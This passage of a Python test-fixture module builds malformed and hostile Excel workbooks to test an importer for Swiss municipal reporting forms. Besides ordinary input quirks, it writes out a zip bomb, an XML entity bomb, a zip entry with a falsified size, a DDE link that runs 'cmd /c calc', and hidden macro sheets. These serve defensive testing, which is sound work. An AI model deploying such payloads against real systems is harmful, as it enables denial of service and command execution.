"""Clumsy and hostile files of our own making: name → bytes and file name. What each must give is in test_faelle.py."""

from __future__ import annotations

import re
import struct
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from decimal import Decimal
from functools import cache, reduce
from io import BytesIO
from types import MappingProxyType
from xml.sax.saxutils import escape

from eingaben.bauen import (
    BLATT,
    MAPPE,
    RELS,
    STILE,
    STRICT,
    TEXTE,
    TRANSITIONAL,
    WERTE,
    ausgefuellt,
    bedingt,
    eigenes_blatt,
    ersatz,
    fuellung,
    gefuellt,
    geteilte_texte,
    kopiertes_blatt,
    mit_beziehung,
    mit_blatt,
    mit_kommentar,
    mit_stil,
    mit_teil,
    mit_textfeld,
    mit_zelle,
    namen,
    namensziel,
    ole,
    ort,
    packen,
    schrift,
    teile,
    ueberdeckt,
    umbau,
    umbenannt,
    verschoben,
    vorlage,
    zelle,
)
from krs.demo.fuellen import fuelle
from krs.formulare.formular import formular
from krs.mappen.vorlage.stempel import Angaben, stempeln

AHV = "756.1234.5678.97"  # valid check digit, nobody's
ERST, PERSONEN = "erst_einzelpersonen", "erst_personen"
OFFEN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_E = "http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"
KOMMENTARE, DESIGN, ZEICHNUNG = "xl/comments1.xml", "xl/theme/theme1.xml", "xl/drawings/drawing1.xml"
TYPEN = "[Content_Types].xml"
EXTERN = ' TargetMode="External"'
ANHANG3 = {
    "kontakt_funktion": "Integrationsbeauftragte", "kontakt_telefon": "032 123 45 67",
    "beauftragte_email": "anna.muster@example.ch", "beauftragte_telefon": "032 123 45 67", "aufwand_franken": 9000,
}  # fmt: skip


@dataclass(frozen=True)
class Datei:
    """One file: how it is made, and what it is called."""

    bauen: Callable[[], bytes]
    name: str = "Formular.xlsx"


def text(feld: str, inhalt: str, kennung: str = "anhang2") -> bytes:
    """Return the filled form with a text in one field."""
    if kennung == "anhang3":
        return gefuellt(kennung, **{**ANHANG3, feld: inhalt})
    return mit_zelle(feld, 't="inlineStr"', f'<is><t xml:space="preserve">{escape(inhalt)}</t></is>')


def zahl(feld: str, roh: str) -> bytes:
    """Return the filled Anhang 2 with a number in one field."""
    return mit_zelle(feld, "", f"<v>{roh}</v>")


def formel(feld: str, inhalt: str, wert: str = "", attribute: str = "") -> bytes:
    """Return the filled Anhang 2 with a formula in one field."""
    return mit_zelle(feld, attribute, f"<f>{escape(inhalt)}</f>{wert}")


def anhang3(**werte: object) -> bytes:
    """Return a whole Anhang 3, changed in these fields."""
    return gefuellt("anhang3", **{**ANHANG3, **werte})


def daneben(adresse: str, inhalt: str) -> bytes:
    """Return the filled Anhang 2 with a text in a cell that is no field."""
    return umbau(ausgefuellt(), blatt=zelle(adresse, 't="inlineStr"', f"<is><t>{inhalt}</t></is>"))


def im_nachweis(inhalt: str) -> bytes:
    """Return the filled Anhang 2 with a text in the sheet Nachweis."""
    alt = teile(ausgefuellt())["xl/worksheets/sheet2.xml"]
    neu = zelle("D5", 't="inlineStr"', f"<is><t>{inhalt}</t></is>")(alt)
    return mit_teil(ausgefuellt(), "xl/worksheets/sheet2.xml", neu)


# --- moved, merged, copied --------------------------------------------------------------------
def ausgeschnitten() -> bytes:
    """Return the form with one entry cut and pasted elsewhere: the name goes along, the old cell is bare."""
    weg = zelle(ort("erst_familien"), "", "")
    hin = ersatz("</sheetData>", '<row r="90"><c r="H90"><v>3</v></c></row></sheetData>')
    return umbau(ausgefuellt(), blatt=lambda xml: hin(weg(xml)), mappe=namensziel("erst_familien", "Reporting!$H$90"))


def verbunden(bereich: str, *geleert: str) -> bytes:
    """Return the form with entry cells merged: Excel keeps the first value only."""

    def blatt(xml: bytes) -> bytes:
        xml = reduce(lambda x, a: zelle(a, "", "")(x), geleert, xml)
        neu = f'<mergeCell ref="{bereich}"/></mergeCells>'.encode()
        return re.sub(
            rb'<mergeCells count="(\d+)">', lambda m: b'<mergeCells count="%d">' % (int(m[1]) + 1), xml
        ).replace(b"</mergeCells>", neu)

    return umbau(ausgefuellt(), blatt=blatt)


def sprachen(*zeilen: tuple[int, str, int]) -> bytes:
    """Return the form with languages in other rows of the list."""
    leer = [["", None]] * 8
    for nummer, sprache, anzahl in zeilen:
        leer[nummer] = [sprache, anzahl]  # type: ignore[list-item]
    return gefuellt(sprachen=[[s or None, n] for s, n in leer])


def breitere_liste(voll: bool) -> bytes:
    """Return the form with a column put behind the list, filled or not."""
    daten = umbau(ausgefuellt(), mappe=lambda xml: namen(xml, lambda o: o.replace(":$C$", ":$D$")))
    inhalt = "<v>7</v>" if voll else ""
    return umbau(daten, blatt=lambda xml: zelle("D41", "", inhalt)(zelle("D40", "", inhalt)(xml)))


def ohne_eingaberegeln() -> bytes:
    """Return the form after a paste that took formats and validations with it."""

    def blatt(xml: bytes) -> bytes:
        xml = re.sub(rb"<dataValidations.*</dataValidations>", b"", xml)
        return re.sub(rb'(<c r="[A-Z]+\d+") s="\d+"', rb"\1", xml)

    return umbau(ausgefuellt(), blatt=blatt)


def fremde_gemeinde(xml: bytes) -> bytes:
    """Return the form sheet with another municipality's name, as a copied-in sheet has it."""
    return zelle("B2", 't="inlineStr"', "<is><t>Trimbach</t></is>")(xml)


def blattfolge(xml: bytes) -> bytes:
    """Return the workbook with its sheets in reverse order."""
    blaetter = re.findall(rb"<sheet [^>]*/>", xml)
    return re.sub(rb"<sheets>.*</sheets>", b"<sheets>" + b"".join(reversed(blaetter)) + b"</sheets>", xml)


def zeile_geloescht() -> bytes:
    """Return the form without its row «mit Familien»: the names of its cells lead nowhere."""
    kaputt = [namensziel(f"{art}_familien", "Reporting!#REF!") for art in ("erst", "integ")]
    return umbau(ausgefuellt(), mappe=lambda xml: reduce(lambda x, n: n(x), kaputt, xml))


def nur_die_kopie() -> bytes:
    """Return the form whose sheet was copied and then deleted: only the copy is left, with names of its own."""
    daten = kopiertes_blatt(ausgefuellt(), "Reporting (2)")
    weg = re.compile(rb'<sheet name="Reporting" [^>]*/>')
    return umbau(daten, mappe=lambda xml: weg.sub(b"", re.sub(rb">Reporting![^<]*", b">#REF!", xml)))


def namen_auf(**ziele: str) -> bytes:
    """Return the form with defined names that lead elsewhere on its sheet."""
    wege = [namensziel(name, f"Reporting!{ziel}") for name, ziel in ziele.items()]
    return umbau(ausgefuellt(), mappe=lambda xml: reduce(lambda x, weg: weg(x), wege, xml))


def name_auf_die_kopie() -> bytes:
    """Return the form copied within its workbook; one name was left pointing to the copy."""
    daten = kopiertes_blatt(ausgefuellt(), "Reporting (2)", zelle("C22", "", "<v>5</v>"))
    return umbau(daten, mappe=namensziel("erst_familien", "'Reporting (2)'!$C$22"))


def andere_adressen(aendern: Callable[[str], str]) -> bytes:
    """Return the form with every second address of a cell written otherwise."""
    muster = re.compile(r'(?<=<c r=")[A-Z]+\d*[13579](?=")')
    return umbau(ausgefuellt(), blatt=lambda xml: muster.sub(lambda m: aendern(m[0]), xml.decode()).encode())


def ausgeblendet(zeile: str = "", spalte: str = "") -> bytes:
    """Return the form with a row or a column hidden."""
    if zeile:
        return umbau(ausgefuellt(), blatt=ersatz(f'<row r="{zeile}"', f'<row r="{zeile}" hidden="1"'))
    return umbau(ausgefuellt(), blatt=ersatz(f'<col min="{spalte}"', f'<col hidden="1" min="{spalte}"'))


def daneben_eingefuegt() -> bytes:
    """Return the form whose talks were pasted one column to the right."""

    def blatt(xml: bytes) -> bytes:
        for nummer, wert in ((21, 8), (22, 3), (23, 1)):
            xml = zelle(f"D{nummer}", "", f"<v>{wert}</v>")(zelle(f"C{nummer}", "", "")(xml))
        return xml

    return umbau(ausgefuellt(), blatt=blatt)


FORMATE = (  # cell, format: each shows the value
    ("C21", "#,##0"), ("C22", "0"), ("C23", '_ * #,##0_ ;_ * \\-#,##0_ ;_ * "-"_ ;_ @_ '), ("C25", "0.00"),
    ("C26", '0 "Einsätze"'), ("C27", "0;-0;;@"), ("C30", "#\\'##0"), ("C31", "[$-807]#,##0"), ("C13", "d/m/yy;@"),
    ("C60", "@"), ("C10", "General"), ("C41", "# ##0"), ("E21", "[Blue]General"), ("E25", '"CHF "0.–'),
)  # fmt: skip


def in_formaten() -> bytes:
    """Return the form whose cells have number formats that change nothing."""
    return reduce(lambda daten, f: mit_stil(daten, *f), FORMATE, ausgefuellt())


def gestrichen() -> bytes:
    """Return the form with a count typed as text; half of its digits are crossed out."""
    laeufe = "<is><r><rPr><strike/></rPr><t>2</t></r><r><t>0</t></r></is>"
    return mit_zelle(PERSONEN, 't="inlineStr"', laeufe)


# --- another template -------------------------------------------------------------------------
def vom_letzten_jahr() -> bytes:
    """Return last year's template, filled in, with the period typed over."""
    alt = stempeln(formular("anhang2"), Angaben(2581, "Olten", "2023-H1"))
    daten = fuelle(alt, "anhang2", "2022-01", WERTE["anhang2"])
    return umbau(daten, blatt=zelle("F4", 't="inlineStr"', "<is><t>2024-H1</t></is>"))


# --- macros, links ----------------------------------------------------------------------------
def mit_makros() -> bytes:
    """Return the form as .xlsm."""
    daten = mit_teil(ausgefuellt(), "xl/vbaProject.bin", ole("VBA", "PROJECT"))
    return mit_beziehung(daten, RELS, "vbaProject", "vbaProject.bin")


def mit_alten_makros() -> bytes:
    """Return the form with an Excel 4 macro sheet, very hidden."""
    makro = f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" {OFFEN}/>'.encode()
    daten = mit_teil(ausgefuellt(), "xl/macrosheets/sheet1.xml", makro)
    return mit_beziehung(daten, RELS, "xlMacrosheet", "macrosheets/sheet1.xml")


def mit_verknuepfung(daten: bytes, inhalt: str) -> bytes:
    """Return a workbook with a link to another one, or to a program."""
    xml = f'<externalLink {OFFEN} xmlns:r="{_R}">{inhalt}</externalLink>'.encode()
    daten = mit_teil(daten, "xl/externalLinks/externalLink1.xml", xml)
    rels = "xl/externalLinks/_rels/externalLink1.xml.rels"
    daten = mit_beziehung(daten, rels, "externalLinkPath", "Liste.xlsx", EXTERN, "rId1")
    daten = mit_beziehung(daten, RELS, "externalLink", "externalLinks/externalLink1.xml", "", "fremd1")
    bezug = '</sheets><externalReferences><externalReference r:id="fremd1"/></externalReferences>'
    return umbau(daten, mappe=ersatz("</sheets>", bezug))


def mit_abfrage() -> bytes:
    """Return the form with a data connection."""
    xml = f'<connections {OFFEN}><connection id="1" name="Web"><webPr url="https://example.ch"/></connection></connections>'
    daten = mit_teil(ausgefuellt(), "xl/connections.xml", xml.encode())
    return mit_beziehung(daten, RELS, "connections", "connections.xml")


BUCH = '<externalBook r:id="rId1"><sheetNames><sheetName val="Liste"/></sheetNames></externalBook>'
DDE = '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
HYPERLINKS = (("mailto:anna@example.ch", "hyperlink"), ("https://so.ch/integration", "hyperlink"))


def mit_hyperlinks() -> bytes:
    """Return the form with links that people click."""
    daten = ausgefuellt()
    for ziel, art in HYPERLINKS:
        daten = mit_beziehung(daten, "xl/worksheets/_rels/sheet1.xml.rels", art, ziel, EXTERN)
    return daten


def mit_fernem_bild() -> bytes:
    """Return the form with a picture that lies on a server."""
    rels = "xl/drawings/_rels/drawing1.xml.rels"
    return mit_beziehung(mit_textfeld(ausgefuellt(), "Logo"), rels, "image", "https://example.ch/logo.png", EXTERN)


# --- the same content, saved otherwise --------------------------------------------------------
def strikt(xml: bytes) -> bytes:
    """Return a part in strict OOXML."""
    return xml.replace(TRANSITIONAL.encode(), STRICT.encode()).replace(
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
        b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    )


def mit_praefix(xml: bytes) -> bytes:
    """Return a part whose elements all have a prefix."""
    return re.sub(rb"<(/?)([A-Za-z])", rb"<\1x:\2", xml).replace(b' xmlns="', b' xmlns:x="')


def utf16(xml: bytes) -> bytes:
    """Return a part in UTF-16."""
    return xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


def gestueckelt() -> bytes:
    """Return the form with texts in runs of different formats, and with phonetic runs."""
    lauf = "<r><t>Tig</t></r><r><rPr><b/></rPr><t>rinya</t></r>"
    laut = '<rPh sb="0" eb="1"><t>ティ</t></rPh><phoneticPr fontId="1"/>'
    return umbau(ausgefuellt(), blatt=zelle("B40", 't="inlineStr"', f"<is>{lauf}{laut}</is>"))


def mit_kennzeichen() -> bytes:
    """Return an archive whose entries tell their size behind the data only, as streaming programs write it."""

    class Strom(BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError

        def seek(self, *_: int) -> int:
            raise OSError

    strom = Strom()
    with zipfile.ZipFile(strom, "w", zipfile.ZIP_DEFLATED) as zip_:
        for name, inhalt in teile(ausgefuellt()).items():
            zip_.writestr(name, inhalt)
    return strom.getvalue()


def ohne_eigenschaften() -> bytes:
    """Return the form without its docProps, as some programs write it."""
    return packen({n: v for n, v in teile(ausgefuellt()).items() if not n.startswith("docProps/")})


def ab_1904() -> bytes:
    """Return the form counted from 1904, as old Macs did: 10.07.2024 is day 44021."""
    daten = zahl("datum", "44021")
    return umbau(daten, mappe=ersatz("<workbookPr ", '<workbookPr date1904="1" '))


def gemeinsame_formel() -> bytes:
    """Return the form with one formula shared by two counts; the second cell names it by number only."""
    erste = zelle("C21", "", '<f t="shared" ref="C21:C22" si="0">4+4</f><v>8</v>')
    zweite = zelle("C22", "", '<f t="shared" si="0"/><v>8</v>')
    return umbau(ausgefuellt(), blatt=lambda xml: zweite(erste(xml)))


def doppelter_teil() -> bytes:
    """Return the form with a second part of the name of its sheet."""
    puffer = BytesIO(ausgefuellt())
    with zipfile.ZipFile(puffer, "a") as zip_:
        zip_.writestr("xl/Worksheets/SHEET1.xml", b"<worksheet/>")
    return puffer.getvalue()


def zip_bombe() -> bytes:
    """Return the form with a picture of 61 MB in 60 KB."""
    puffer = BytesIO(ausgefuellt())
    with zipfile.ZipFile(puffer, "a", zipfile.ZIP_DEFLATED) as zip_, zip_.open("xl/media/bild.emf", "w") as strom:
        for _ in range(61):
            strom.write(b" " * 1_000_000)
    return puffer.getvalue()


def xml_bombe(xml: bytes) -> bytes:
    """Return a part that grows to a gigabyte if its entities are resolved."""
    lol = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(9))
    return xml.replace(b"<worksheet", f"<!DOCTYPE w [{lol}]><worksheet".encode(), 1)


def mit_luege() -> bytes:
    """Return the form whose sheet unpacks to 30 MB but says 1,000 bytes."""
    inhalt = teile(ausgefuellt())
    echt = inhalt[BLATT] + b" " * 30_000_000
    return packen({**inhalt, BLATT: echt}).replace(struct.pack("<I", len(echt)), struct.pack("<I", 1000))


def kopfzeile(xml: bytes) -> bytes:
    """Return the form sheet with a number in the header of its print."""
    return xml.replace(
        b"</worksheet>", f"<headerFooter><oddHeader>&amp;L{AHV}</oddHeader></headerFooter></worksheet>".encode()
    )


def mit_namen(xml: str) -> bytes:
    """Return the form with a defined name more."""
    return umbau(ausgefuellt(), mappe=ersatz("</definedNames>", f"{xml}</definedNames>"))


def mit_eigenschaft(wert: str) -> bytes:
    """Return the form with a property that somebody made up."""
    eigen = f'<property name="Fall" pid="2"><lpwstr xmlns="v">{wert}</lpwstr></property>'
    xml = f'<Properties xmlns="{_E}">{eigen}</Properties>'
    daten = mit_teil(ausgefuellt(), "docProps/custom.xml", xml.encode())
    return mit_beziehung(daten, "_rels/.rels", "custom-properties", "docProps/custom.xml")


def kennung(*zellen: tuple[str, str, str], form: str = "anhang2") -> bytes:
    """Return a form whose identity sheet some program wrote otherwise: cell, attributes, content."""
    daten = anhang3() if form == "anhang3" else ausgefuellt()
    return umbau(daten, kenn=lambda xml: reduce(lambda x, z: zelle(*z)(x), zellen, xml))


def kennblatt_tiefer() -> bytes:
    """Return the form with two rows put above the identity."""
    muster = re.compile(r'(<row r="|<c r="[AB])(\d+)')
    return umbau(ausgefuellt(), kenn=lambda xml: muster.sub(lambda m: m[1] + str(int(m[2]) + 2), xml.decode()).encode())


def mit_doppel(name: str) -> bytes:
    """Return the form with a second part whose name some programs take for that of its sheet."""
    return mit_teil(ausgefuellt(), name, zelle("C21", "", "<v>99</v>")(teile(ausgefuellt())[BLATT]))


def angekuendigt(alt: str, neu: str) -> bytes:
    """Return the form with one part declared as something else."""
    typen = teile(ausgefuellt())[TYPEN].decode()
    assert alt in typen
    return mit_teil(ausgefuellt(), TYPEN, typen.replace(alt, neu, 1).encode())


LISTE = eigenes_blatt(("Datum", "Wer"), ("10.07.2024", "Anna Muster"))
LISTE_MIT_NUMMER = eigenes_blatt(("Datum", "Wer"), ("10.07.2024", "7561234567897"))
GUT = ausgefuellt

_FAELLE: dict[str, Callable[[], bytes] | Datei] = {
    # numbers as people type them
    "Anhang 2 ohne Fehler": GUT,
    "Anhang 3 ohne Fehler": anhang3,
    "Zahl mit geradem Apostroph": lambda: text(PERSONEN, "3'000"),
    "Zahl mit typografischem Apostroph": lambda: text(PERSONEN, "3’000"),
    "Zahl mit geschütztem Leerschlag": lambda: text(PERSONEN, "1\u00a0200"),
    "Zahl mit schmalem Leerschlag": lambda: text(PERSONEN, "1\u202f200"),
    "Zahl mit Punkt und Null": lambda: text(PERSONEN, "19.0"),
    "Zahl mit Komma und Null": lambda: text(PERSONEN, "19,0"),
    "Zahl mit Strich wie ein Betrag": lambda: text(PERSONEN, "19.–"),
    "Zahl in breiten Ziffern": lambda: text(ERST, "\uff18"),
    "Zahl in arabischen Ziffern": lambda: text(ERST, "\u0668"),
    "Zahl mit Leerschlägen dahinter": lambda: text(ERST, "8   "),
    "Zahl mit Apostroph davor": lambda: text(ERST, "'8"),
    "Zahl mit «ca.»": lambda: text(ERST, "ca. 5"),
    "Zahl in Worten": lambda: text(ERST, "fünf"),
    "Zahl mit Einheit": lambda: text(ERST, "8 Gespräche"),
    "Strich statt Null": lambda: text(ERST, "-"),
    "Negative Anzahl": lambda: zahl(ERST, "-3"),
    "Halbes Gespräch": lambda: zahl(ERST, "2.5"),
    "Riesige Anzahl": lambda: zahl(ERST, "123456789012"),
    "Höchste Anzahl": lambda: zahl(PERSONEN, "9999"),
    "Zahl in wissenschaftlicher Schreibweise": lambda: zahl(PERSONEN, "1E3"),
    "Text in wissenschaftlicher Schreibweise": lambda: text(ERST, "1e3"),
    "Prozent in einer Anzahl": lambda: text(ERST, "50%"),
    "Datum in einer Anzahl": lambda: zahl(ERST, "45385"),
    "Datum als Text in einer Anzahl": lambda: text(ERST, "45'385"),
    "Uhrzeit in einer Anzahl": lambda: zahl(ERST, "0.375"),
    "WAHR in einer Anzahl": lambda: mit_zelle(ERST, 't="b"', "<v>1</v>"),
    "Rauschen der Rechnung": lambda: zahl(ERST, "8.0000000000000018"),
    # days
    "Datum als Text": lambda: text("datum", "10.07.2024"),
    "Datum kurz": lambda: text("datum", "10.7.24"),
    "Datum mit Leerschlägen": lambda: text("datum", "10. 7. 2024"),
    "Datum nach ISO": lambda: text("datum", "2024-07-10"),
    "Datum mit Monatsnamen": lambda: text("datum", "10. Juli 2024"),
    "Datum mit Schrägstrichen": lambda: text("datum", "10/07/2024"),
    "Datum mit Schrägstrichen am 31.": lambda: text("datum", "31/07/2024"),
    "Datum mit Uhrzeit": lambda: zahl("datum", "45483.6"),
    # formulas and errors
    "Rechnung statt Zahl": lambda: formel(ERST, "5+3", "<v>8</v>"),
    "Formel ohne Ergebnis": lambda: formel(ERST, "5+3"),
    "Formel aus einer anderen Datei": lambda: mit_verknuepfung(formel(ERST, "[1]Liste!$B$2", "<v>8</v>"), BUCH),
    "Formel auf ein eigenes Blatt": lambda: mit_blatt(formel(ERST, "Liste!A9", "<v>8</v>"), "Liste", LISTE),
    "Bezugsfehler": lambda: formel(ERST, "#REF!+1", "<v>#REF!</v>", 't="e"'),
    "Nicht vorhanden": lambda: mit_zelle(ERST, 't="e"', "<v>#N/A</v>"),
    "Division durch null": lambda: formel(ERST, "1/0", "<v>#DIV/0!</v>", 't="e"'),
    "Fehlerwert ohne Beitrag": lambda: mit_zelle(PERSONEN, 't="e"', "<v>#N/A</v>"),
    "Gemeinsame Formel": gemeinsame_formel,
    # answers
    "WAHR statt Ja": lambda: mit_zelle("bestaetigung", 't="b"', "<v>1</v>"),
    "FALSCH statt Nein": lambda: mit_zelle("bestaetigung", 't="b"', "<v>0</v>"),
    "Formel WAHR() statt Ja": lambda: formel("bestaetigung", "TRUE()", "<v>1</v>", 't="b"'),
    "ja klein": lambda: text("bestaetigung", "ja"),
    "JA mit Leerschlag": lambda: text("bestaetigung", "JA "),
    "j statt Ja": lambda: text("bestaetigung", "j"),
    "x statt Ja": lambda: text("bestaetigung", "x"),
    "Nein mit Punkt": lambda: text("nullmeldung", "Nein."),
    "1 statt Ja": lambda: zahl("bestaetigung", "1"),
    "Auswahl gross geschrieben": lambda: anhang3(aufgabe_1="ERFÜLLT "),
    "Auswahl ausserhalb der Liste": lambda: anhang3(aufgabe_1="mehrheitlich"),
    "Pensum als Text": lambda: anhang3(beauftragte_pensum="20 %"),
    "Pensum in Prozentpunkten": lambda: anhang3(beauftragte_pensum=20),
    "Pensum 10": lambda: anhang3(beauftragte_pensum=10),
    "Pensum 1.5": lambda: anhang3(beauftragte_pensum=Decimal("1.5")),
    "Betrag mit Währung": lambda: anhang3(aufwand_franken="Fr. 9'000.–"),
    "Betrag mit Franken dahinter": lambda: anhang3(aufwand_franken="9\u2009000.-- Fr."),
    "Betrag, der vieles heissen kann": lambda: anhang3(aufwand_franken="Fr. 9.000"),
    "E-Mail mit zwei Adressen": lambda: text("kontakt_email", "anna@example.ch; eva@example.ch"),
    "Nur Leerschläge": lambda: text(ERST, " \u00a0 "),
    "Unbestätigt": lambda: text("bestaetigung", "Nein"),
    # templates
    "Leer zurück": vorlage,
    "Leer zurück mit Makros": lambda: mit_teil(vorlage(), "xl/vbaProject.bin", b"x"),
    "Formular vom letzten Jahr": vom_letzten_jahr,
    "Andere Gemeinde eingetragen": lambda: umbau(ausgefuellt(), blatt=fremde_gemeinde),
    "Kennung verändert": lambda: umbau(ausgefuellt(), kenn=zelle("B4", 't="str"', "<v>2024-H2</v>")),
    "Kennung mit AHV-Nummer": lambda: umbau(ausgefuellt(), kenn=zelle("B5", 't="str"', f"<v>{AHV}</v>")),
    "Kennung als Zahlen": lambda: kennung(
        ("B3", "", "<v>2581</v>"), ("B4", "", "<v>2024</v>"), ("B6", "", "<v>6000</v>"), form="anhang3"
    ),
    "Kennung mit Kommastellen": lambda: kennung(
        ("B3", 't="str"', "<v>2581.0</v>"), ("B4", 't="str"', "<v>2024.0</v>"), ("B6", 't="str"', "<v>6'000</v>"),
        form="anhang3",
    ),
    "Kennung mit Datum": lambda: kennung(("B2", "", "<v>44562</v>")),
    "Kennung mit Datum nach ISO": lambda: kennung(("B2", 't="d"', "<v>2022-01-01</v>")),
    "Kennung mit langem Strich": lambda: kennung(
        ("B4", 't="str"', "<v>2024–H1</v>"), ("B5", 't="str"', "<v> Olten </v>")
    ),
    "Kennung einer anderen Gemeinde": lambda: kennung(("B5", 't="str"', "<v>Trimbach</v>")),
    "Kennung weiter unten": kennblatt_tiefer,
    "Kennblatt sichtbar": lambda: umbau(ausgefuellt(), mappe=ersatz(' state="veryHidden"', "")),
    "Kennblatt ausgeblendet": lambda: umbau(ausgefuellt(), mappe=ersatz("veryHidden", "hidden")),
    "Version, die es nicht gibt": lambda: umbau(ausgefuellt(), kenn=zelle("B2", 't="str"', "<v>2099-01</v>")),
    "Kennblatt gelöscht": lambda: umbau(ausgefuellt(), mappe=ersatz('name="_krs"', 'name="Blatt4"')),
    "Name gelöscht": lambda: umbau(ausgefuellt(), mappe=namensziel("datum", "Reporting!#REF!")),
    "Zeile gelöscht": zeile_geloescht,
    "Liste mit leerer Spalte": lambda: breitere_liste(False),
    "Liste mit voller Spalte": lambda: breitere_liste(True),
    "Liste weiter unten ausgefüllt": lambda: sprachen((3, "Tigrinya", 4), (7, "Arabisch", 2)),
    "Liste mit Summe daneben": lambda: sprachen((0, "Tigrinya", 4), (1, "Arabisch", 3)),
    "Liste mit Einheit": lambda: gefuellt(sprachen=[["Tigrinya", "4 Einsätze"], ["Arabisch", 2]]),
    "Felder nebeneinander verbunden": lambda: verbunden("C21:D21"),
    "Felder untereinander verbunden": lambda: verbunden("C21:C22", "C22"),
    "Feld ausgeschnitten und eingefügt": ausgeschnitten,
    # what is counted and what the sheet shows
    "Zwei Felder auf einer Zelle": lambda: namen_auf(erst_einzelpersonen="$C$22"),
    "Liste über einem Feld": lambda: namen_auf(datum="$C$41"),
    "Felder vertauscht": lambda: namen_auf(erst_einzelpersonen="$C$22", erst_familien="$C$21"),
    "Spalten vertauscht": lambda: namen_auf(erst_gruppen="$E$23", integ_gruppen="$C$23"),
    "Gleich beschriftete Felder vertauscht": lambda: namen_auf(
        erst_dolmetsch_familien="$C$22", erst_familien="$C$26"
    ),
    "Feld auf einer Beschriftung": lambda: namen_auf(erst_familien="$B$22"),
    "Feld auf der Kopie": name_auf_die_kopie,
    "Liste mit ihren Titeln": lambda: namen_auf(sprachen="$B$39:$C$47"),
    "Liste ohne ihre letzten Zeilen": lambda: namen_auf(sprachen="$B$40:$C$40"),
    "Namen in Grossbuchstaben": lambda: umbau(
        ausgefuellt(), mappe=lambda xml: re.sub(rb'(?<=definedName name=")erst_\w+', lambda m: m[0].upper(), xml)
    ),
    "Namen mit Gleichheitszeichen": lambda: umbau(
        ausgefuellt(), mappe=lambda xml: namen(xml, lambda ort_: f"={ort_}")
    ),
    "Namen mit Anführungszeichen": lambda: umbau(
        ausgefuellt(), mappe=lambda xml: namen(xml, lambda ort_: ort_.replace("Reporting!", " 'reporting' ! ").lower())
    ),
    "Name mit zwei Zielen": lambda: umbau(
        ausgefuellt(),
        mappe=ersatz("</definedNames>", '<definedName name="DATUM">Reporting!$C$12</definedName></definedNames>'),
    ),
    "Adressen klein": lambda: andere_adressen(str.lower),
    "Adressen mit Dollarzeichen": lambda: andere_adressen(lambda a: f"${a[0]}${a[1:]}"),
    "Adresse ohne Zeile": lambda: umbau(ausgefuellt(), blatt=ersatz('r="C59"', 'r="C"')),
    "Adresse hinter dem Blatt": lambda: umbau(ausgefuellt(), blatt=ersatz('r="C59"', 'r="C1048577"')),
    "Adresse zweimal, anders geschrieben": lambda: umbau(ausgefuellt(), blatt=ersatz('r="C22"', 'r="c21"')),
    "Verbunden, Wert verdeckt": lambda: verbunden("C21:C22"),
    "Mit der Beschriftung verbunden": lambda: verbunden("B21:C21"),
    "Alles verbunden": lambda: verbunden("B21:F23"),
    "Zeile ausgeblendet": lambda: ausgeblendet(zeile="22"),
    "Spalte ausgeblendet": lambda: ausgeblendet(spalte="5"),
    "Werte daneben eingefügt": daneben_eingefuegt,
    # what is counted and what a cell shows
    "Zahlenformate, die nichts ändern": in_formaten,
    "Zahlenformat verbirgt": lambda: mit_stil(ausgefuellt(), "C21", ";;;"),
    "Zahlenformat verbirgt eine Null": lambda: mit_stil(ausgefuellt(), "C27", ";;;"),
    "Zahlenformat hängt eine Null an": lambda: mit_stil(ausgefuellt(), "C21", '0"0"'),
    "Zahlenformat ist eine andere Zahl": lambda: mit_stil(ausgefuellt(), "C21", '"12"'),
    "Zahlenformat in Tausend": lambda: mit_stil(ausgefuellt(), "C30", "0.0,"),
    "Zahlenformat in Prozent": lambda: mit_stil(ausgefuellt(), "C21", "0%"),
    "Zahlenformat eines Datums": lambda: mit_stil(ausgefuellt(), "C21", "dd.mm.yyyy"),
    "Zahlenformat mit Punkt": lambda: mit_stil(ausgefuellt(), "C30", "0\\.0"),
    "Zahlenformat mit Bedingung": lambda: mit_stil(ausgefuellt(), "C21", '[>5]"3";0'),
    "Zahlenformat in Dutzend": lambda: mit_stil(ausgefuellt(), "C21", '0" Dutzend"'),
    "Zahlenformat für Text": lambda: mit_stil(ausgefuellt(), "C16", '0;0;0;"Ja"'),
    "Zahlenformat statt Datum": lambda: mit_stil(ausgefuellt(), "C13", '"01.01.2024"'),
    "Zahlenformat in der Liste": lambda: mit_stil(ausgefuellt(), "C40", '0"4"'),
    "Zahlenformat mit AHV-Nummer": lambda: mit_stil(ausgefuellt(), "C21", f'"{AHV}"'),
    "Zelle mit ihrem Wert gefüllt": lambda: mit_stil(ausgefuellt(), "C21", ausrichtung="fill"),
    "Weisse Schrift": lambda: mit_stil(ausgefuellt(), "C21", schrift=schrift('rgb="FFFFFFFF"')),
    "Schrift in der Farbe des Designs": lambda: mit_stil(
        ausgefuellt(), "C21", schrift=schrift('theme="1"'), fuellung=fuellung('theme="1" tint="0.05"')
    ),
    "Weisse Schrift auf einer Null": lambda: mit_stil(ausgefuellt(), "C27", schrift=schrift('indexed="9"')),
    "Weisse Schrift auf blau": lambda: mit_stil(
        ausgefuellt(), "C21", schrift=schrift('theme="0"'), fuellung=fuellung('theme="4"')
    ),
    "Weiss durch das Zahlenformat": lambda: mit_stil(ausgefuellt(), "C21", "[White]0"),
    "Durchgestrichene Anzahl": lambda: mit_stil(ausgefuellt(), "C21", schrift=schrift(mehr="<strike/>")),
    "Durchgestrichener Name": lambda: mit_stil(ausgefuellt(), "C9", schrift=schrift(mehr="<strike/>")),
    "Winzige Schrift": lambda: mit_stil(ausgefuellt(), "C21", schrift=schrift().replace('"10"', '"1"')),
    "Durchgestrichene Ziffern": gestrichen,
    "Bedingt verborgen": lambda: bedingt(
        ausgefuellt(), "C20:C23 E21", '<cfRule type="expression" dxfId="0" priority="1"><formula>1</formula></cfRule>',
        '<dxf><numFmt numFmtId="170" formatCode=";;;"/></dxf>',
    ),
